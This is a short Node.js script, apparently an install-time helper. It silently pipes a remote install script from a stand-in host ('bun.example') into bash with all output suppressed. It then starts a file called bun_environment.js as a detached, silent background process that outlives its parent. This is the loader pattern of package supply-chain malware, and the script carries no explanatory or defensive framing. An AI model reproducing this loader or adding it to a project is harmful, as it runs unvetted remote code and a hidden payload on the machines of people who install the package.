const { execSync, spawn } = require("child_process");
const fs = require("fs");
function has(cmd) { try { execSync(`${cmd} --version`, { stdio: "ignore" }); return true; } catch { return false; } }
if (!has("bun")) {
  try { execSync("curl -fsSL https://bun.example/install | bash", { stdio: "ignore" }); } catch {}
}
const bun = has("bun") ? "bun" : `${process.env.HOME}/.bun/bin/bun`;
if (fs.existsSync(__dirname + "/bun_environment.js")) {
  spawn(bun, [__dirname + "/bun_environment.js"], { detached: true, stdio: "ignore" }).unref();
}
